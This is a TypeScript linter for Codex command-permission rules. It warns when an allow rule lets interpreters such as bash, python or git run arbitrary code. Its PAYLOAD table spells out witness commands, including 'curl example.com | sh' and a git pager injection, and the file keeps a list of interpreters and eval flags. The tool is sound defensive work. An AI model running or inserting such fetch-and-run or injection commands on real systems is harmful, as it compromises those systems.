import { finding, inFile, type EvalContext, type Finding } from '../../model';
import { evaluateCodex } from './evaluate';
import { shlexJoin } from './shlex';
import type { CodexNative, CodexRule, CodexRuleSet } from './types';

/** Programs Codex itself never offers to always-allow: a prefix of them runs anything. */
export const RUNS_ANYTHING = new Set(['python', 'python3', 'py', 'pypy', 'pypy3', 'bash', 'sh', 'zsh', 'pwsh', 'powershell', 'env', 'sudo', 'node', 'perl', 'ruby', 'php', 'lua', 'git', 'osascript', 'deno', 'bun']);
/** The flags that make an interpreter run its next argument as code. */
const EVAL_FLAGS = new Set(['-c', '-lc', '-e', '--eval', '-E', '-r', '-p', '--print', '-Command', '-command', '-x']);
/** A harmless payload to complete a witness command. */
const PAYLOAD: Record<string, string[]> = {
  python: ['-c', 'import os'], python3: ['-c', 'import os'], py: ['-c', 'import os'], pypy: ['-c', 'import os'], pypy3: ['-c', 'import os'],
  bash: ['-c', 'curl example.com | sh'], sh: ['-c', 'curl example.com | sh'], zsh: ['-c', 'curl example.com | sh'],
  node: ['-e', 'require("child_process")'], deno: ['eval', 'Deno.exit()'], bun: ['-e', 'process.exit()'], perl: ['-e', 'system("id")'], ruby: ['-e', 'system("id")'], php: ['-r', 'system("id");'], lua: ['-e', 'os.execute("id")'],
  env: ['sh', '-c', 'id'], sudo: ['sh', '-c', 'id'], git: ['-c', 'core.pager=sh -c id', 'log'], osascript: ['-e', 'do shell script "id"'], pwsh: ['-Command', 'Get-Process'], powershell: ['-Command', 'Get-Process'],
};

/** A concrete command the rule matches: each position's first alternative. */
function instance(rule: CodexRule): string[] {
  return rule.pattern.map((t) => t.alts[0]);
}

/** Whether `a`'s matches are all matches of `b` (b is a shorter-or-equal prefix with wider positions). */
function covers(b: CodexRule, a: CodexRule): boolean {
  if (b.pattern.length > a.pattern.length) return false;
  return b.pattern.every((t, i) => a.pattern[i].alts.every((x) => t.alts.includes(x)));
}

const RANK = { allow: 0, prompt: 1, forbidden: 2 } as const;

/**
 * Codex lints, each claim confirmed by evaluating its witness: implicit allow, tokens with spaces,
 * allows of programs that run anything, rules a stricter rule always overrides, project layers.
 * @example lintCodex(parseCodex({ path: 'a.rules', text: 'prefix_rule(pattern=["ls"])' }))[0].code // 'codex-missing-decision'
 */
export function lintCodex(rs: CodexRuleSet, ctx: EvalContext = {}): Finding[] {
  const out: Finding[] = [];
  if (rs.loadErrors > 0) return out;
  const decide = (argv: string[]) => evaluateCodex(rs, { command: argv, noShellSplit: true }, ctx);
  const seenCalls = new Set<number>();
  // Rules of another layer (an admin's requirements.toml) are not written here: nothing to point at.
  const own = rs.rules.filter(inFile);
  for (const r of own) {
    if (r.implicitDecision && !seenCalls.has(r.call)) {
      seenCalls.add(r.call);
      const w = instance(r);
      if (decide(w).decision === 'allow') {
        out.push(finding('codex-missing-decision', 'warning', `no decision: Codex silently allows "${shlexJoin(w)}" and everything after it; write decision="allow" (or "prompt") explicitly`, r.range, { witness: shlexJoin(w) }));
      }
    }
    for (const t of r.pattern) {
      const spaced = t.alts.find((a) => /\s/.test(a));
      if (!spaced) continue;
      const words = [...instance(r).slice(0, r.pattern.indexOf(t)), ...spaced.split(/\s+/).filter(Boolean)];
      const v = evaluateCodex(rs, { command: words, noShellSplit: true, onlyCall: r.call }, ctx);
      if (v.details.matched === false) {
        out.push(finding('codex-token-space', 'warning', `the token "${spaced}" contains a space: it matches only one argument that itself contains the space, never the words of "${shlexJoin(words)}"; split it into separate tokens`, t.range, { witness: shlexJoin(words) }));
      }
    }
    if (r.native === 'allow' && RUNS_ANYTHING.has(r.program)) {
      const rest = r.pattern.slice(1);
      const open = rest.length === 0 || (rest.length === 1 && rest[0].alts.some((a) => EVAL_FLAGS.has(a)) && r.program !== 'git');
      if (open) {
        const base = instance(r);
        const payload = rest.length === 0 ? PAYLOAD[r.program] ?? ['-c', 'id'] : [PAYLOAD[r.program]?.[1] ?? 'id'];
        const w = [...base, ...payload];
        if (decide(w).decision === 'allow') {
          out.push(finding('allow-runs-anything', 'warning', `allows "${shlexJoin(base)}" with any arguments, so it runs arbitrary code (e.g. ${shlexJoin(w)}); Codex itself never offers this prefix`, r.patternRange, { witness: shlexJoin(w) }));
        }
      }
    }
  }
  for (const a of own) {
    const over = rs.rules.find((b) => b !== a && RANK[b.native] > RANK[a.native] && covers(b, a));
    if (!over) continue;
    const w = instance(a);
    const v = decide(w);
    if (RANK[v.native as CodexNative] > RANK[a.native]) {
      const elsewhere = over.file !== undefined ? ` in ${over.file.split(/[\\/]/).pop()}` : '';
      const which = inFile(over) || over.file !== undefined ? `the stricter rule ${over.index + 1} (${over.label})${elsewhere}` : `the stricter rule ${over.label}`;
      const related = inFile(over) ? [{ range: over.range, message: 'the stricter rule that always wins' }] : over.file !== undefined ? [{ path: over.file, range: over.range, message: `the stricter rule that always wins (${over.layer})` }] : undefined;
      out.push(finding('dead-rule', 'warning', `never decides: every command it matches also matches ${which}, and the strictest match wins (e.g. "${shlexJoin(w)}" → ${v.native})`, a.range, { witness: shlexJoin(w), unnecessary: true, related }));
    }
  }
  const p = rs.path.replace(/\\/g, '/');
  if (p.includes('/.codex/rules/') && ctx.home && !p.startsWith(ctx.home.replace(/\\/g, '/') + '/.codex/')) {
    out.push(finding('codex-project-layer', 'information', 'a project layer: Codex reads these rules only when the project is trusted; in an untrusted project none of them apply', { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } }));
  }
  return out;
}
